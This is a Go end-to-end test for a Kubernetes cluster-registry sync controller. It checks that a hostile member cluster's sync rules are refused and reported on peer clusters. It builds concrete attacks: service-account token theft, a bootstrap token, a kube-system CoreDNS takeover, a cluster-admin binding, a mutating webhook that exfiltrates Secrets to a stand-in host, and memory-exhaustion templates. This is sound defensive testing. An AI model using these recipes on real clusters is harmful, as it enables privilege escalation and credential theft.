package syncrules

import (
	"context"
	"fmt"
	"os"
	"strconv"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/kubectl-registry/kubectl-registry/reconciler/api/v1alpha1"
	"github.com/kubectl-registry/kubectl-registry/reconciler/e2e/harness"
	"github.com/kubectl-registry/kubectl-registry/reconciler/testbed"
)

const hostileNS = "hostile"

// controllerMemoryLimit is the Deployment's memory limit: a hostile rule must not push
// a controller over it.
const controllerMemoryLimit = 256 << 20

// rssBytes reads a process's resident set size.
func rssBytes(pid int) (int64, error) {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	if err != nil {
		return 0, err
	}
	for _, l := range strings.Split(string(b), "\n") {
		if f := strings.Fields(l); len(f) >= 2 && f[0] == "VmRSS:" {
			kb, err := strconv.ParseInt(f[1], 10, 64)
			return kb << 10, err
		}
	}
	return 0, fmt.Errorf("no VmRSS in /proc/%d/status", pid)
}

// TestHostileMember: the admin of first is hostile. Every attack through rules is tried
// on real API servers, with kube-controller-manager's token controller running, and must
// fail on second and third, with the refusal reported on the rule there: stealing the
// controller's service account token, a bootstrap token, a copy into kube-system by a
// namespace rewrite, a ClusterRoleBinding to cluster-admin, a mutating webhook,
// overwriting another member's reader Secret or Cluster by name, a 40 MB copy built by
// templates, and a rule with 10,000 overrides.
func TestHostileMember(t *testing.T) {
	testbed.SkipIfNoAssets(t)
	names := []string{"first", "second", "third"}
	cl, controllers := harness.FormGroupControllers(t, bed, nil, names...)
	first, second := cl["first"], cl["second"]
	ctx := context.Background()
	// Every grant a team might add for some rule: peers read, and the controllers write,
	// Secrets, ConfigMaps, ClusterRoleBindings and webhook configurations everywhere.
	harness.Grant(t, cl, "", "secrets")
	harness.Grant(t, cl, "", "configmaps")
	harness.Grant(t, cl, "rbac.authorization.k8s.io", "clusterrolebindings")
	harness.Grant(t, cl, "admissionregistration.k8s.io", "mutatingwebhookconfigurations")
	for _, n := range names {
		for _, ns := range []string{hostileNS, "hostile-system"} {
			if err := cl[n].Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: ns}}); err != nil && !apierrors.IsAlreadyExists(err) {
				t.Fatal(err)
			}
		}
	}
	readerSecretBefore := &corev1.Secret{}
	if err := second.Get(ctx, client.ObjectKey{Namespace: ns, Name: "third"}, readerSecretBefore); err != nil {
		t.Fatalf("third's reader Secret on second: %v", err)
	}
	clusterBefore := &v1alpha1.Cluster{}
	if err := second.Get(ctx, client.ObjectKey{Name: "third"}, clusterBefore); err != nil {
		t.Fatal(err)
	}

	// The attacker's objects on first.
	mk := func(o client.Object) {
		t.Helper()
		if err := first.Create(ctx, o); err != nil {
			t.Fatal(err)
		}
	}
	mk(&corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "bait"}, Type: corev1.SecretTypeOpaque, Data: map[string][]byte{"x": []byte("y")}})
	mk(&corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: hostileNS, Name: "bootstrap-token-abcdef"}, Type: corev1.SecretTypeBootstrapToken,
		StringData: map[string]string{"token-id": "abcdef", "token-secret": "0123456789abcdef", "usage-bootstrap-authentication": "true"}})
	mk(&corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: "hostile-system", Name: "coredns-takeover"}, Data: map[string]string{"Corefile": ". { forward . 203.0.113.1 }"}})
	mk(&corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "hostile-third"}, Type: corev1.SecretTypeOpaque, Data: map[string][]byte{"kubeconfig": []byte("attacker")}})
	mk(&corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: hostileNS, Name: "huge"}, Data: map[string]string{"a": "b"}})
	crb := &unstructured.Unstructured{}
	crb.SetGroupVersionKind(schema.GroupVersionKind{Group: "rbac.authorization.k8s.io", Version: "v1", Kind: "ClusterRoleBinding"})
	crb.SetName("hostile-admin")
	crb.Object["roleRef"] = map[string]any{"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"}
	crb.Object["subjects"] = []any{map[string]any{"kind": "User", "name": "attacker", "apiGroup": "rbac.authorization.k8s.io"}}
	mk(crb)
	hook := &unstructured.Unstructured{}
	hook.SetGroupVersionKind(schema.GroupVersionKind{Group: "admissionregistration.k8s.io", Version: "v1", Kind: "MutatingWebhookConfiguration"})
	hook.SetName("hostile-hook")
	hook.Object["webhooks"] = []any{map[string]any{
		"name": "steal.example.com", "admissionReviewVersions": []any{"v1"}, "sideEffects": "None", "failurePolicy": "Ignore",
		"clientConfig": map[string]any{"url": "https://203.0.113.1/steal"},
		"rules":        []any{map[string]any{"apiGroups": []any{""}, "apiVersions": []any{"v1"}, "operations": []any{"CREATE"}, "resources": []any{"secrets"}}},
	}}
	mk(hook)

	// The attacker's rules, made on first: they travel to every member.
	applyRule(t, first, `
apiVersion: clusterregistry.k8s.cisco.com/v1alpha1
kind: ResourceSyncRule
metadata: {name: hostile-token}
spec:
  groupVersionKind: {version: v1, kind: Secret}
  rules:
  - match: [{objectKey: {name: bait, namespace: `+ns+`}}]
    mutations:
      annotations: {add: {kubernetes.io/service-account.name: cluster-registry-controller}}
      overrides:
      - {path: type, value: kubernetes.io/service-account-token}
      - {path: data, type: remove}
`)
	applyRule(t, first, `
apiVersion: clusterregistry.k8s.cisco.com/v1alpha1
kind: ResourceSyncRule
metadata: {name: hostile-secrets}
spec:
  groupVersionKind: {version: v1, kind: Secret}
  rules:
  - match: [{objectKey: {name: bootstrap-token-abcdef, namespace: `+hostileNS+`}}]
  - match: [{objectKey: {name: hostile-third, namespace: `+ns+`}}]
    mutations:
      name: {stripPrefix: hostile-}
`)
	applyRule(t, first, `
apiVersion: clusterregistry.k8s.cisco.com/v1alpha1
kind: ResourceSyncRule
metadata: {name: hostile-kube-system}
spec:
  groupVersionKind: {version: v1, kind: ConfigMap}
  rules:
  - match: [{namespaces: [hostile-system]}]
    mutations:
      namespace: {stripPrefix: hostile-, addPrefix: kube-}
`)
	applyRule(t, first, `
apiVersion: clusterregistry.k8s.cisco.com/v1alpha1
kind: ResourceSyncRule
metadata: {name: hostile-crb}
spec:
  groupVersionKind: {group: rbac.authorization.k8s.io, version: v1, kind: ClusterRoleBinding}
  rules: [{}]
`)
	applyRule(t, first, `
apiVersion: clusterregistry.k8s.cisco.com/v1alpha1
kind: ResourceSyncRule
metadata: {name: hostile-webhook}
spec:
  groupVersionKind: {group: admissionregistration.k8s.io, version: v1, kind: MutatingWebhookConfiguration}
  rules: [{}]
`)
	applyRule(t, first, `
apiVersion: clusterregistry.k8s.cisco.com/v1alpha1
kind: ResourceSyncRule
metadata: {name: hostile-clusters}
spec:
  groupVersionKind: {group: clusterregistry.k8s.cisco.com, version: v1alpha1, kind: Cluster}
  rules: [{}]
`)
	var huge strings.Builder
	huge.WriteString(`
apiVersion: clusterregistry.k8s.cisco.com/v1alpha1
kind: ResourceSyncRule
metadata: {name: hostile-huge}
spec:
  groupVersionKind: {version: v1, kind: ConfigMap}
  rules:
  - match: [{objectKey: {name: huge, namespace: ` + hostileNS + `}}]
    mutations:
      overrides:
`)
	for i := 0; i < 40; i++ {
		fmt.Fprintf(&huge, "      - {path: data.k%d, value: '{{ printf \"%%01000000d\" 0 }}'}\n", i)
	}
	applyRule(t, first, huge.String())

	// The rule with 10,000 overrides: first's admin loosens first's own CRD so that its
	// API server takes the rule, as a hostile member may.
	loosenOverrides(t, first)
	var many strings.Builder
	many.WriteString(`
apiVersion: clusterregistry.k8s.cisco.com/v1alpha1
kind: ResourceSyncRule
metadata: {name: hostile-overrides}
spec:
  groupVersionKind: {version: v1, kind: ConfigMap}
  rules:
  - match: [{objectKey: {name: huge, namespace: ` + hostileNS + `}}]
    mutations:
      overrides:
`)
	for i := 0; i < 10000; i++ {
		fmt.Fprintf(&many, "      - {path: data.k%d, value: x}\n", i)
	}
	applyRule(t, first, many.String())

	for _, target := range []string{"second", "third"} {
		c := cl[target]
		t.Run("refused and reported on "+target, func(t *testing.T) {
			harness.Eventually(t, 60*time.Second, "every refusal reported on "+target, func() error {
				for rule, want := range map[string]struct{ cond, reason, text string }{
					"hostile-token":       {v1alpha1.RuleConditionDegraded, v1alpha1.ReasonCopyRefused, "service-account-token"},
					"hostile-kube-system": {v1alpha1.RuleConditionDegraded, v1alpha1.ReasonNotAllowed, "namespaces: [kube-system]"},
					"hostile-crb":         {v1alpha1.RuleConditionReady, v1alpha1.ReasonNotAllowed, "kind: ClusterRoleBinding"},
					"hostile-webhook":     {v1alpha1.RuleConditionReady, v1alpha1.ReasonNotAllowed, "kind: MutatingWebhookConfiguration"},
					"hostile-clusters":    {v1alpha1.RuleConditionReady, v1alpha1.ReasonCopyRefused, "registry's own kind"},
					"hostile-huge":        {v1alpha1.RuleConditionDegraded, v1alpha1.ReasonMutationFailed, "render more than"},
				} {
					cnd, err := condition(c, rule, want.cond, metav1.ConditionTrue, want.reason)
					if want.cond == v1alpha1.RuleConditionReady {
						cnd, err = condition(c, rule, want.cond, metav1.ConditionFalse, want.reason)
					}
					if err != nil {
						return err
					}
					if !strings.Contains(cnd.Message, want.text) {
						return fmt.Errorf("rule %s: %s does not say %q", rule, cnd.Message, want.text)
					}
				}
				// Both Secrets of hostile-secrets are refused.
				cnd, err := condition(c, "hostile-secrets", v1alpha1.RuleConditionDegraded, metav1.ConditionTrue, v1alpha1.ReasonCopyRefused)
				if err != nil {
					return err
				}
				if !strings.Contains(cnd.Message, "2 objects") {
					return fmt.Errorf("hostile-secrets: %s", cnd.Message)
				}
				return nil
			})
			var rule v1alpha1.ResourceSyncRule
			if err := c.Get(ctx, client.ObjectKey{Name: "hostile-overrides"}, &rule); !apierrors.IsNotFound(err) {
				t.Errorf("the rule with 10,000 overrides reached %s (%v)", target, err)
			}
		})
		t.Run("nothing written on "+target, func(t *testing.T) {
			time.Sleep(5 * time.Second) // time for the token controller to fill a token Secret
			var secrets corev1.SecretList
			if err := c.List(ctx, &secrets); err != nil {
				t.Fatal(err)
			}
			for _, s := range secrets.Items {
				if s.Name == "bait" || s.Name == "bootstrap-token-abcdef" {
					t.Errorf("%s/%s (type %s) was written on %s", s.Namespace, s.Name, s.Type, target)
				}
				if s.Type == corev1.SecretTypeServiceAccountToken && s.Namespace == ns {
					t.Errorf("a token-bearing Secret %s/%s exists on %s", s.Namespace, s.Name, target)
				}
			}
			for _, o := range []struct {
				obj client.Object
				key client.ObjectKey
			}{
				{&corev1.ConfigMap{}, client.ObjectKey{Namespace: "kube-system", Name: "coredns-takeover"}},
				{&corev1.ConfigMap{}, client.ObjectKey{Namespace: hostileNS, Name: "huge"}},
			} {
				if err := c.Get(ctx, o.key, o.obj); !apierrors.IsNotFound(err) {
					t.Errorf("%s was written on %s (%v)", o.key, target, err)
				}
			}
			for _, u := range []*unstructured.Unstructured{crb, hook} {
				got := &unstructured.Unstructured{}
				got.SetGroupVersionKind(u.GroupVersionKind())
				if err := c.Get(ctx, client.ObjectKey{Name: u.GetName()}, got); !apierrors.IsNotFound(err) {
					t.Errorf("%s %s was written on %s (%v)", u.GetKind(), u.GetName(), target, err)
				}
			}
		})
	}
	t.Run("members' reader Secrets and Clusters are untouched", func(t *testing.T) {
		var s corev1.Secret
		if err := second.Get(ctx, client.ObjectKey{Namespace: ns, Name: "third"}, &s); err != nil {
			t.Fatal(err)
		}
		if s.Type != v1alpha1.SecretTypeClusterRegistry || string(s.Data["kubeconfig"]) == "attacker" {
			t.Errorf("third's reader Secret on second was overwritten: type %s", s.Type)
		}
		var c v1alpha1.Cluster
		if err := second.Get(ctx, client.ObjectKey{Name: "third"}, &c); err != nil {
			t.Fatal(err)
		}
		if c.Labels[v1alpha1.RuleLabel] != "" {
			t.Errorf("third's Cluster on second was written by rule %s", c.Labels[v1alpha1.RuleLabel])
		}
	})
	t.Run("the controllers keep running under their memory limit", func(t *testing.T) {
		for _, n := range names {
			ctrl := controllers[n]
			if !ctrl.Running() {
				t.Fatalf("the controller of %s exited", n)
			}
			rss, err := rssBytes(ctrl.Pid())
			if err != nil {
				t.Fatal(err)
			}
			if rss > controllerMemoryLimit {
				t.Errorf("the controller of %s uses %d MiB, over the Deployment's %d MiB limit", n, rss>>20, controllerMemoryLimit>>20)
			}
		}
	})
}

// loosenOverrides removes the cap on overrides from cl's ResourceSyncRule CRD, as a
// hostile admin may on their own cluster, and puts it back when the test ends.
func loosenOverrides(t *testing.T, cl client.Client) {
	t.Helper()
	ctx := context.Background()
	path := []string{"properties", "spec", "properties", "rules", "items", "properties", "mutations", "properties", "overrides"}
	set := func(maxItems any) {
		crd := &unstructured.Unstructured{}
		crd.SetGroupVersionKind(schema.GroupVersionKind{Group: "apiextensions.k8s.io", Version: "v1", Kind: "CustomResourceDefinition"})
		crd.SetName("resourcesyncrules.clusterregistry.k8s.cisco.com")
		// The API server writes the CRD's status (its conditions) too: harness.Update
		// retries on conflict.
		if err := harness.Update(ctx, cl, crd, func() {
			versions, _, _ := unstructured.NestedSlice(crd.Object, "spec", "versions")
			for i := range versions {
				v := versions[i].(map[string]any)
				schema, _, _ := unstructured.NestedMap(v, "schema", "openAPIV3Schema")
				if maxItems == nil {
					unstructured.RemoveNestedField(schema, append(path, "maxItems")...)
				} else if err := unstructured.SetNestedField(schema, maxItems, append(path, "maxItems")...); err != nil {
					t.Fatal(err)
				}
				if err := unstructured.SetNestedMap(v, schema, "schema", "openAPIV3Schema"); err != nil {
					t.Fatal(err)
				}
				versions[i] = v
			}
			if err := unstructured.SetNestedSlice(crd.Object, versions, "spec", "versions"); err != nil {
				t.Fatal(err)
			}
		}); err != nil {
			t.Fatal(err)
		}
	}
	set(nil)
	t.Cleanup(func() { set(int64(64)) })
	// The API server takes a moment to serve the new schema.
	time.Sleep(2 * time.Second)
}
